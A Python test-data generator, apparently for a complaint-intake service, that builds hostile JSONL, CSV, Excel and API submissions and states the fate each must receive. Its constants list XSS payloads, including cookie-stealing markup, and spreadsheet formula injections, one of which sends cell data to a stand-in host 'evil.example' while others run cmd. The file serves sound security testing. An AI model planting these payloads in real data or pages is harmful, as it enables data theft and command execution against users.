"""A seeded generator of hostile input, each unit with the fate intake must give it.

A *unit* is what intake must account for: one record (a JSONL line, a CSV or Excel row, an
object of an API body), or one submission refused whole (a binary file, a body that is not
UTF-8 JSON), which intake keeps whole as one quarantined item. Each unit carries its
expected fate: ``ok`` (accepted), ``dup`` (recognised as a repeat submission) or the
quarantine reason code. The test feeds the submissions through the real entry points and
checks that the counts come out exactly as predicted.

Used by tests/security/test_bad_input_scale.py and benchmarks/bench_bad_input.py.
"""

from __future__ import annotations

import csv
import io
import json
import random
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from pqrisk.core.uscc import complete_uscc

OK, DUP = "ok", "dup"
GOOD_USCC = complete_uscc("91310115MA1H00001")
BAD_USCC = ("91310000XXXXXXXXX1", "9131000O1234567890", "1234", "<script>1</script>")
DISTRICTS = ("浦东新区", "310115", "徐汇区", "闵行区", "310114", "嘉定")
# Text an attacker would put in a complaint: markup that must stay text on every page.
XSS = (
    '<script>alert("xss")</script>',
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(document.cookie)">点此查看</a>',
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)"></iframe>',
)
# Cells that spreadsheets would run as formulas (OWASP CSV injection).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
ODD_BUT_VALID_DATES = ("2026年3月5日", "2026/03/05", "20260305", "2026-03-05T08:30:00")
ABSURD_DATES = ("2026-02-30", "9999-99-99", "昨天", "1e308", "-1", "0000-00-00")
INVISIBLE = "\u202egnp.exe\u202c\u200b\ufeff"
MB = 1024 * 1024


@dataclass
class Submission:
    """One file, API body or call of the ingest service, and what must become of it."""

    channel: str  # "file", "api" or "objects"
    name: str
    data: Any  # file bytes, API body bytes, or a list of objects
    fates: list[str] = field(default_factory=list)
    status: int = 200  # for an API body

    @property
    def units(self) -> int:
        return len(self.fates)

    def expected(self) -> tuple[int, int, Counter[str]]:
        counts = Counter(self.fates)
        accepted, dups = counts.pop(OK, 0), counts.pop(DUP, 0)
        return accepted, dups, counts


class Generator:
    def __init__(self, seed: int, prefix: str) -> None:
        self.rng = random.Random(seed)
        self.prefix = prefix
        self.n = 0
        self.accepted: list[dict[str, Any]] = []  # records accepted so far (for repeats)
        self.hostile_titles: dict[str, str] = {}  # external id → markup title, as stored

    # ------------------------------------------------------------ records

    def new_id(self) -> str:
        self.n += 1
        return f"{self.prefix}-{self.n}"

    def good(self, **extra: Any) -> dict[str, Any]:
        rng = self.rng
        rec: dict[str, Any] = {
            "source": "complaint",
            "external_id": self.new_id(),
            "occurred_at": f"2026-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
            "title": rng.choice(
                ("电热水壶漏电", "充电宝起火", "儿童玩具小零件脱落", "电动车电池鼓包")
            ),
            "text": f"消费者反映产品存在安全隐患，编号{self.n}，要求处理。" * rng.randint(1, 3),
            "district": rng.choice(DISTRICTS),
        }
        if rng.random() < 0.3:
            rec["enterprise_uscc"] = GOOD_USCC
            rec["enterprise_name"] = "上海某某电器有限公司"
        rec.update(extra)
        return rec

    def record_case(self, *, json_only: bool = True, small: bool = False) -> tuple[Any, str]:
        """A record (an object) and its fate. ``json_only`` False leaves out what only a
        JSON object can carry (non-text values, nesting, lone surrogates, NUL): rows of a
        table. ``small`` leaves out the records of hundreds of KB (an API body has a limit)."""
        rng = self.rng
        cases: list[Callable[[], tuple[Any, str]]] = [
            lambda: (self.good(), OK),
            lambda: (self.good(), OK),
            lambda: (self.good(), OK),
            self._xss,
            self._formula,
            lambda: (self.good(text="正文含有\u0001\u001b[31m控制字符"), OK),
            lambda: (self.good(title="标题" + INVISIBLE + "🔥"), OK),
            lambda: (self.good(title="很长的标题" * 200), OK),
            lambda: (self.good(occurred_at=rng.choice(ODD_BUT_VALID_DATES)), OK),
            lambda: self._repeat(json_only),
            lambda: self._clash(json_only),
            lambda: (self.good(external_id=""), "missing_field"),
            lambda: (self.good(title="", text=""), "missing_field"),
            lambda: (self.good(external_id="X" * 200), "too_large"),
            lambda: (self.good(enterprise_uscc=self.rng.choice(BAD_USCC)), "invalid_uscc"),
            lambda: (self.good(district="火星区"), "unknown_district"),
            lambda: (self.good(occurred_at=rng.choice(ABSURD_DATES)), "invalid_value"),
        ]
        if json_only:
            cases += [
                lambda: (self.good(text="正文\u0000含有NUL字符"), OK),
                lambda: (self.good(source="weibo"), "unknown_source"),
                lambda: (rng.choice(([1, 2, 3], "只是一段文字", 42, None, True)), "malformed"),
                lambda: (self.good(details="不是对象"), "malformed"),
                lambda: (self.good(title=["列表", "标题"]), "invalid_value"),
                lambda: (self.good(occurred_at={"$date": 1}), "invalid_value"),
                lambda: (self.good(details=_nested(40)), "malformed"),
                lambda: (self.good(text="孤立代理项\udc80"), "encoding"),
            ]
        # Records of hundreds of KB are rare, as in life: each is kept whole in quarantine.
        if not small and rng.random() < 0.01:
            if json_only and rng.random() < 0.5:
                return self.good(details={"附件": "x" * 600_000}), "too_large"
            return self.good(text="长" * 60_000), "too_large"
        return rng.choice(cases)()

    def _xss(self) -> tuple[dict[str, Any], str]:
        title = self.rng.choice(XSS)
        rec = self.good(title=title, text=f"正文中也有标记：{self.rng.choice(XSS)}")
        self.hostile_titles[rec["external_id"]] = title
        return rec, OK

    def _formula(self) -> tuple[dict[str, Any], str]:
        return self.good(title=self.rng.choice(FORMULAS), enterprise_name="=cmd|'/C calc'!A0"), OK

    def _earlier(self, json_only: bool) -> dict[str, Any] | None:
        """A record accepted before; for a table row, one a row can hold (no NUL)."""
        for _ in range(20):
            if not self.accepted:
                return None
            rec = self.rng.choice(self.accepted)
            if json_only or "\x00" not in json.dumps(rec, ensure_ascii=False):
                return rec
        return None

    def _repeat(self, json_only: bool) -> tuple[dict[str, Any], str]:
        earlier = self._earlier(json_only)
        if earlier is None:
            return self.good(), OK
        return dict(earlier), DUP

    def _clash(self, json_only: bool) -> tuple[dict[str, Any], str]:
        earlier = self._earlier(json_only)
        if earlier is None:
            return self.good(), OK
        return {**earlier, "text": earlier["text"] + "（内容被改动）"}, "invalid_value"

    def case(self, *, json_only: bool = True, small: bool = False) -> tuple[Any, str]:
        obj, fate = self.record_case(json_only=json_only, small=small)
        if fate == OK and isinstance(obj, dict):
            self.accepted.append(obj)
        return obj, fate

    # ------------------------------------------------------------ submissions

    def jsonl_file(self, lines: int) -> Submission:
        """UTF-8 JSONL: clean for the first block (the encoding is decided there), then every
        kind of bad line: broken JSON, invalid and GBK bytes, 5 MB lines, deep nesting."""
        sub = Submission("file", f"{self.prefix}-records.jsonl", b"")
        out = bytearray()
        while len(out) < 70 * 1024:
            rec = self.good()
            self.accepted.append(rec)
            out += _line(rec)
            sub.fates.append(OK)
        raw_cases: list[Callable[[], tuple[bytes, str]]] = [
            lambda: (
                b'{"source": "complaint", "external_id": "' + self.new_id().encode(),
                "malformed",
            ),
            lambda: (b"{'source': 'complaint', 'title': 'single quotes'}", "malformed"),
            lambda: (b'{"source": "complaint",}', "malformed"),
            lambda: (b"[" * 100_000 + b"]" * 100_000, "malformed"),
            lambda: (_line(self.good())[:-1] + b"\xff\xfe\xfd", "encoding"),
            lambda: (_line(self.good()).decode().encode("gbk", "replace")[:-1], "encoding"),
        ]
        big = 3
        while len(sub.fates) < lines:
            roll = self.rng.random()
            if big and roll < 0.002:
                big -= 1
                out += _line(self.good(text="大" * (5 * MB // 3 + 10)))
                sub.fates.append("too_large")
            elif roll < 0.06:
                data, fate = self.rng.choice(raw_cases)()
                out += data + b"\n"
                sub.fates.append(fate)
            else:
                obj, fate = self.case()
                out += _line(obj)
                sub.fates.append(fate)
        sub.data = bytes(out)
        return sub

    def csv_file(self, rows: int, encoding: str, name: str) -> Submission:
        """A bureau spreadsheet saved as CSV with Chinese headers and no declared encoding;
        hostile cells, rows of the wrong width, a cell beyond the CSV field limit, and an
        unterminated quote in the last row."""
        header = ["编号", "日期", "标题", "内容", "所属区", "统一社会信用代码", "企业名称"]
        keys = [
            "external_id",
            "occurred_at",
            "title",
            "text",
            "district",
            "enterprise_uscc",
            "enterprise_name",
        ]
        sub = Submission("file", name, b"")
        buf = io.StringIO(newline="")
        writer = csv.writer(buf, lineterminator="\r\n")
        writer.writerow(header)
        for _ in range(40):  # clean rows first: the dialect is sniffed from the head
            rec = self.good(occurred_at="2026-03-05")
            writer.writerow([_cell(rec.get(k)) for k in keys])
            self.accepted.append(rec)
            sub.fates.append(OK)
        while len(sub.fates) < rows - 1:
            roll = self.rng.random()
            if roll < 0.02:
                writer.writerow(
                    [
                        "R-" + self.new_id(),
                        "2026-03-05",
                        "标题",
                        "正文",
                        "浦东新区",
                        "",
                        "",
                        "多余",
                        "单元格",
                    ]
                )
                sub.fates.append("malformed")
                continue
            if roll < 0.025:
                writer.writerow(
                    [self.new_id(), "2026-03-05", "标题", "超" * 150_000, "浦东新区", "", ""]
                )
                sub.fates.append("too_large")
                continue
            obj, fate = self.case(json_only=False)
            # Tabs and CRs at the start of a cell are stripped by the reader, as spaces are.
            writer.writerow([_cell(obj.get(k)) for k in keys])
            sub.fates.append(fate)
        # A quote left open swallows the rows after it: the lot is one unit, kept whole.
        buf.write(f'{self.new_id()},2026-03-05,"未闭合的引号,正文\r\n')
        buf.write(f"{self.new_id()},2026-03-05,被吞掉的行,正文,浦东新区,,\r\n")
        sub.fates.append("malformed")
        sub.data = buf.getvalue().encode(encoding)
        return sub

    def xlsx_file(self, rows: int) -> Submission:
        from openpyxl import Workbook

        sub = Submission("file", f"{self.prefix}-sheet.xlsx", b"")
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        keys = ["external_id", "occurred_at", "title", "text", "district"]
        sheet.append(["编号", "日期", "标题", "内容", "所属区"])
        for r in range(2, rows + 2):
            roll = self.rng.random()
            if roll < 0.1:
                rec, fate = self.good(title=self.rng.choice(FORMULAS).strip()), OK
            elif roll < 0.2:
                rec, fate = self.good(title=self.rng.choice(XSS)), OK
                self.hostile_titles[rec["external_id"]] = rec["title"]
            elif roll < 0.25:
                rec, fate = self.good(district="火星区"), "unknown_district"
            elif roll < 0.3:
                rec, fate = self.good(title="", text=""), "missing_field"
            else:
                rec, fate = self.good(occurred_at="2026-03-05"), OK
            for c, key in enumerate(keys, start=1):
                cell = sheet.cell(row=r, column=c)
                cell.value = rec.get(key) or None
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # text, as a person typed it, not a formula
            sub.fates.append(fate)
        out = io.BytesIO()
        book.save(out)
        sub.data = out.getvalue()
        return sub

    def utf16_jsonl(self, lines: int, *, bom: bool) -> Submission:
        sub = Submission("file", f"{self.prefix}-utf16{'-bom' if bom else ''}.jsonl", b"")
        text = []
        for _ in range(lines):
            obj, fate = self.case()
            if fate == "encoding":  # a lone surrogate cannot be written in UTF-16
                obj, fate = self.good(), OK
                self.accepted.append(obj)
            text.append(json.dumps(obj, ensure_ascii=False) + "\n")
            sub.fates.append(fate)
        data = "".join(text).encode("utf-16-le")
        sub.data = (b"\xff\xfe" + data) if bom else data
        return sub

    def binary_file(self) -> Submission:
        data = bytes(self.rng.randrange(256) for _ in range(20_000)) + b"\x00" * 8
        return Submission("file", f"{self.prefix}-blob.jsonl", data, ["encoding"])

    def api_bodies(self, records: int, per_call: int = 1000) -> list[Submission]:
        subs = []
        while records > 0:
            n = min(per_call, records)
            records -= n
            objs, fates = [], []
            for _ in range(n):
                obj, fate = self.case(small=True)
                objs.append(obj)
                fates.append(fate)
            # ASCII escapes: a lone surrogate travels as \\udc80, which is valid JSON text.
            body = json.dumps({"source": "complaint", "records": objs}).encode()
            subs.append(Submission("api", "接口提交", body, fates))
        gbk = json.dumps({"records": [self.good()]}, ensure_ascii=False).encode("gbk")
        subs += [
            Submission("api", "GBK请求体", gbk, ["encoding"], 400),
            Submission("api", "非JSON", b"records=1&title=<script>", ["malformed"], 400),
            Submission(
                "api",
                "深层嵌套",
                b'{"records": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
                ["malformed"],
                400,
            ),
            Submission("api", "records非数组", b'{"records": {"a": 1}}', ["malformed"], 400),
            Submission(
                "api",
                "超过1000条",
                json.dumps({"records": [{"x": i} for i in range(1001)]}).encode(),
                ["too_large"],
                413,
            ),
        ]
        return subs

    def objects(self, count: int) -> Submission:
        """Objects handed to the ingest service directly: what no JSON parser produces."""
        import datetime as dt

        sub = Submission("objects", f"{self.prefix}-objects", [])
        for _ in range(count):
            roll = self.rng.random()
            if roll < 0.05:
                obj, fate = self.good(title=b"bytes title"), "invalid_value"
            elif roll < 0.1:
                obj, fate = self.good(occurred_at=dt.datetime(2026, 3, 5)), "invalid_value"
            elif roll < 0.12:
                obj, fate = _nested(2000), "malformed"
            else:
                obj, fate = self.case()
            sub.data.append(obj)
            sub.fates.append(fate)
        return sub


def _line(obj: Any) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n"


def _cell(value: Any) -> str:
    return "" if value is None else str(value)


def _nested(depth: int) -> Any:
    value: Any = {"底": 1}
    for _ in range(depth):
        value = {"层": value}
    return value


def build(seed: int = 20260305, prefix: str = "H", total: int = 10_000) -> list[Submission]:
    """The submissions of one run: ``total`` units over every entry point."""
    gen = Generator(seed, prefix)
    subs = [
        gen.jsonl_file(2500),
        gen.csv_file(1500, "gb18030", f"{prefix}-gbk.csv"),
        gen.csv_file(400, "utf-16", f"{prefix}-utf16.csv"),
        gen.utf16_jsonl(200, bom=False),
        gen.utf16_jsonl(200, bom=True),
        gen.xlsx_file(300),
        gen.binary_file(),
    ]
    subs += gen.api_bodies(3000)
    used = sum(s.units for s in subs)
    subs.append(gen.objects(total - used))
    assert sum(s.units for s in subs) == total
    return subs
